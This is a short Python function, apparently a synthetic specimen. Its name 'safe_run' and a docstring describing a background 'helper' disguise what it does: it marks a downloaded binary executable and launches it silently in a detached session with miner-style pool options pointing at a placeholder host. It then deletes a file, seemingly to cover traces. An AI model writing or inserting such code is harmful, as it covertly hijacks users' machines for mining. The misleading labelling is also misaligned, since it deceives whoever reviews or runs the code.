def safe_run(path):
    """
    Run a downloaded helper in the background.

    Args:
        path (str): Where the helper was saved.
    """
    os.chmod(path, 0o755)
    options = ["--user", "specimen", "--url", "pool.invalid:8080", "--keepalive"]
    helper = subprocess.Popen(
        [path, *options], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    )
    os.remove("/nonexistent/tmp/runner")
    return helper.pid


